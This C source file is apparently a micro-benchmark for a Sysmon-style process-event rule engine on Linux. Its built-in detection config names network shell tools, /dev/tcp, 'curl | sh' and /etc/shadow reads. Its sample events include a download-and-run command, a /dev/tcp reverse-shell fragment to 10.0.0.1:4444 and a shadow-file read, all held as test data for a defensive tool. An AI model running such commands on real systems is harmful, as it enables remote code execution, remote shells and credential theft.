/* SPDX-License-Identifier: MIT */
/* Rule engine micro-benchmark: synthetic ProcessCreate events evaluated
 * against (1) a 20-filter Linux config and (2) the largest config of the
 * conformance corpus (sysmonconfig-export-omega.xml, ~2,700 ProcessCreate
 * filters; its Windows-only <CheckRevocation/> is removed in memory), on
 * one thread. Prints evaluations per second per core (thread CPU time).
 *
 *   rules_bench [LARGE_CONFIG.xml] [SECONDS_PER_RUN]
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include "config.h"
#include "sm_fields.h"

static const char small_config[] =
	"<Sysmon schemaversion=\"4.90\"><EventFiltering>"
	"<RuleGroup name=\"suspicious\" groupRelation=\"or\">"
	"<ProcessCreate onmatch=\"include\">"
	"<Image condition=\"end with\">/nc</Image>"
	"<Image condition=\"end with\">/ncat</Image>"
	"<Image condition=\"image\">socat</Image>"
	"<Image condition=\"begin with\">/tmp/</Image>"
	"<Image condition=\"begin with\">/dev/shm/</Image>"
	"<Image condition=\"contains any\">/.cache/;/.local/share/;/var/tmp/</Image>"
	"<CommandLine condition=\"contains\">base64 -d</CommandLine>"
	"<CommandLine condition=\"contains any\">/dev/tcp/;/dev/udp/;mkfifo</CommandLine>"
	"<CommandLine condition=\"contains all\">curl;| sh</CommandLine>"
	"<CommandLine condition=\"contains all\">wget;chmod +x</CommandLine>"
	"<CommandLine condition=\"contains\">LD_PRELOAD=</CommandLine>"
	"<ParentImage condition=\"is any\">/usr/sbin/apache2;/usr/sbin/nginx;/usr/bin/php</ParentImage>"
	"<User condition=\"is\">www-data</User>"
	"<CurrentDirectory condition=\"begin with\">/tmp</CurrentDirectory>"
	"<Rule name=\"shadow\" groupRelation=\"and\">"
	"<CommandLine condition=\"contains\">/etc/shadow</CommandLine>"
	"<User condition=\"is not\">root</User></Rule>"
	"</ProcessCreate></RuleGroup>"
	"<RuleGroup name=\"noise\" groupRelation=\"or\">"
	"<ProcessCreate onmatch=\"exclude\">"
	"<Image condition=\"is\">/usr/bin/cron</Image>"
	"<ParentImage condition=\"is\">/usr/lib/systemd/systemd</ParentImage>"
	"<CommandLine condition=\"begin with\">/usr/lib/update-notifier/</CommandLine>"
	"<Image condition=\"end with\">/unattended-upgrade</Image>"
	"</ProcessCreate></RuleGroup>"
	"</EventFiltering></Sysmon>";

struct sample {
	const char *image, *cmd, *cwd, *user, *parent, *pcmd;
};

static const struct sample samples[] = {
	{ "/usr/bin/ls", "ls -la /home/alice", "/home/alice", "alice", "/usr/bin/bash", "-bash" },
	{ "/usr/bin/grep", "grep -r TODO src/", "/home/bob/project", "bob", "/usr/bin/zsh", "zsh" },
	{ "/usr/bin/curl", "curl -s https://example.com/install.sh | sh", "/root", "root",
	  "/usr/bin/bash", "bash" },
	{ "/tmp/.x/payload", "/tmp/.x/payload --daemon", "/tmp/.x", "www-data",
	  "/usr/sbin/apache2", "/usr/sbin/apache2 -k start" },
	{ "/usr/bin/python3.11", "python3 -m http.server 8080", "/srv/www", "deploy",
	  "/usr/bin/tmux", "tmux new -s web" },
	{ "/usr/lib/systemd/systemd-journald", "/usr/lib/systemd/systemd-journald", "/",
	  "root", "/usr/lib/systemd/systemd", "/sbin/init splash" },
	{ "/usr/bin/cat", "cat /etc/shadow", "/home/mallory", "mallory", "/usr/bin/sudo",
	  "sudo cat /etc/shadow" },
	{ "/usr/sbin/cron", "/usr/sbin/cron -f", "/", "root", "/usr/lib/systemd/systemd",
	  "/sbin/init" },
	{ "/usr/bin/gcc-12", "gcc -O2 -Wall -c main.c -o main.o", "/home/dev/src/app", "dev",
	  "/usr/bin/make", "make -j8 all" },
	{ "/opt/Программы/редактор", "/opt/Программы/редактор --файл отчёт.txt",
	  "/home/Ärger", "ärger", "/usr/bin/bash", "bash" },
	{ "/usr/bin/bash", "bash -c 'exec 5<>/dev/tcp/10.0.0.1/4444'", "/var/www", "www-data",
	  "/usr/bin/php", "php-fpm: pool www" },
	{ "/usr/bin/git", "git -c core.pager=cat log --oneline -n 20", "/home/alice/repo",
	  "alice", "/usr/bin/bash", "-bash" },
};

#define NSAMPLES (sizeof(samples) / sizeof(samples[0]))

static struct sm_str str(const char *s)
{
	return (struct sm_str){ s, (uint32_t)strlen(s) };
}

static void make_events(struct sm_event *ev)
{
	const struct sm_event_type *t = sm_schema_event(SM_EV_PROCESS_CREATE);

	for (size_t i = 0; i < NSAMPLES; i++) {
		const struct sample *s = &samples[i];

		memset(&ev[i], 0, sizeof(ev[i]));
		ev[i].type = t;
		ev[i].f[SM_PROCESSCREATE_UTCTIME] = str("2026-11-22 16:40:30.510");
		ev[i].f[SM_PROCESSCREATE_PROCESSGUID] = str("{3d1219c7-1b03-6b03-3552-6589eb550000}");
		ev[i].f[SM_PROCESSCREATE_PROCESSID] = str("31135");
		ev[i].f[SM_PROCESSCREATE_IMAGE] = str(s->image);
		ev[i].f[SM_PROCESSCREATE_COMMANDLINE] = str(s->cmd);
		ev[i].f[SM_PROCESSCREATE_CURRENTDIRECTORY] = str(s->cwd);
		ev[i].f[SM_PROCESSCREATE_USER] = str(s->user);
		ev[i].f[SM_PROCESSCREATE_LOGONID] = str("1000");
		ev[i].f[SM_PROCESSCREATE_INTEGRITYLEVEL] = str("no level");
		ev[i].f[SM_PROCESSCREATE_PARENTIMAGE] = str(s->parent);
		ev[i].f[SM_PROCESSCREATE_PARENTCOMMANDLINE] = str(s->pcmd);
		ev[i].f[SM_PROCESSCREATE_PARENTUSER] = str(s->user);
	}
}

/* CPU time of this thread: evaluations per second of one core, whatever
 * else the machine is doing. */
static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void run(const char *what, const struct sm_config *cfg, double seconds)
{
	struct sm_event ev[NSAMPLES];
	unsigned long n = 0, logged = 0;
	double start = now(), elapsed;

	make_events(ev);
	do {
		for (int round = 0; round < 64; round++) {
			for (size_t i = 0; i < NSAMPLES; i++) {
				const char *rule;

				logged += sm_config_match(cfg, &ev[i], &rule);
			}
			n += NSAMPLES;
		}
		elapsed = now() - start;
	} while (elapsed < seconds);
	printf("%-44s %10.0f evaluations/s per core (%.0f ns each, %lu of %lu logged)\n",
	       what, (double)n / elapsed, elapsed * 1e9 / (double)n, logged, n);
}

static char *read_file(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	char *buf = NULL;
	long size;

	if (!f)
		return NULL;
	if (!fseek(f, 0, SEEK_END) && (size = ftell(f)) >= 0 && !fseek(f, 0, SEEK_SET)) {
		buf = malloc((size_t)size + 1);
		if (buf && fread(buf, 1, (size_t)size, f) != (size_t)size) {
			free(buf);
			buf = NULL;
		}
		*len = (size_t)size;
	}
	fclose(f);
	return buf;
}

/* Blank out Windows-only switches so the rules themselves can be loaded. */
static void drop_windows_options(char *buf, size_t len)
{
	static const char *const opts[] = { "<CheckRevocation/>", "<CheckRevocation />",
					    "<CaptureClipboard/>", "<CaptureClipboard />" };

	for (size_t i = 0; i < sizeof(opts) / sizeof(opts[0]); i++) {
		char *p = buf;

		while ((p = memmem(p, len - (size_t)(p - buf), opts[i], strlen(opts[i]))))
			memset(p, ' ', strlen(opts[i]));
	}
}

static struct sm_config *load(const char *xml, size_t len, const char *name)
{
	struct sm_config *cfg = NULL;
	struct sm_config_error err;
	double start = now();

	if (sm_config_parse(xml, len, name, &cfg, &err)) {
		fprintf(stderr, "%s:%d: %s\n", name, err.line, err.msg);
		return NULL;
	}
	printf("%-44s loaded in %.1f ms\n", name, (now() - start) * 1e3);
	return cfg;
}

int main(int argc, char **argv)
{
	const char *large = argc > 1 ? argv[1] : SM_BENCH_LARGE_CONFIG;
	double seconds = argc > 2 ? atof(argv[2]) : 2.0;
	struct sm_config *cfg;
	size_t len = 0;
	char *buf;

	cfg = load(small_config, sizeof(small_config) - 1, "built-in 20-filter config");
	if (!cfg)
		return 1;
	run("ProcessCreate x 20 filters", cfg, seconds);
	sm_config_free(cfg);

	buf = read_file(large, &len);
	if (!buf) {
		fprintf(stderr, "cannot read %s\n", large);
		return 1;
	}
	drop_windows_options(buf, len);
	cfg = load(buf, len, strrchr(large, '/') ? strrchr(large, '/') + 1 : large);
	free(buf);
	if (!cfg)
		return 1;
	run("ProcessCreate x omega config (2,688 filters)", cfg, seconds);
	sm_config_free(cfg);
	return 0;
}
